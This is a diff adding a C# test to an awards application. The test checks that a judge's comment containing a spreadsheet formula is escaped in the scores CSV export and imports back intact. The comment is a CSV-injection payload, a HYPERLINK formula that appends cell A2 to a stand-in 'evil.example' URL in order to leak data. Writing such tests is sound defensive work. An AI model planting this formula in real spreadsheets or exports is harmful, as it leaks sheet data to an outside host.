@@ -1,6 +1,7 @@
 using System.Net;
 using Awards.Web.Cli;
 using Awards.Web.Tests.Infrastructure;
+using Microsoft.EntityFrameworkCore;
 
 namespace Awards.Web.Tests.Features.Results;
 
@@ -113,6 +114,25 @@ public sealed class RankingTests(AwardsFactory factory) : IClassFixture<AwardsFa
         Assert.Equal(0, await CommandLine.RunAsync(["rank", "--track", "journey", "--scores", file, "--method", "raw-mean", $"--Awards:DatabasePath={factory.DatabasePath}"], raw, new StringReader(string.Empty)));
         Assert.Contains(",80.00,", raw.ToString(), StringComparison.Ordinal);
         Assert.Equal(Core.Ranking.AggregationMethod.ZScore, factory.WithDb(db => db.TrackResults.Single().Method));
+    }
+
+    [Fact]
+    public async Task AJudgesFormulaLikeComment_IsGuardedInTheScoresSheet_AndImportsBackAsTyped()
+    {
+        const string Comment = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"查看详情\")";
+        var id = factory.WithDb(db => db.Scores.OrderBy(s => s.AssignmentId).Select(s => s.AssignmentId).First());
+        factory.WithDb(db => db.Database.ExecuteSqlRaw("UPDATE Scores SET Comment = {0} WHERE AssignmentId = {1}", Comment, id));
+        var organizer = await Nominating.SignedInAsync(factory, "organizer@demo.example");
+
+        var scores = await organizer.GetStringAsync(Page + "/scores.csv");
+
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example", scores, StringComparison.Ordinal);
+        Assert.DoesNotContain(",\"=", scores, StringComparison.Ordinal);
+        Assert.DoesNotContain(",=", scores, StringComparison.Ordinal);
+        var track = factory.WithDb(db => db.Tracks.Include(t => t.Criteria).Single(t => t.Code == "journey"));
+        var sheet = Core.Scoring.Sheets.ScoreSheetReader.Read(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(scores)), "scores.csv", Web.Features.Judging.ScoreImport.Columns(track), Core.Scoring.Sheets.SheetLimits.Default);
+        Assert.True(sheet.IsValid);
+        Assert.Contains(sheet.Rows, r => r.Comment == Comment);
     }
 
     [Fact]
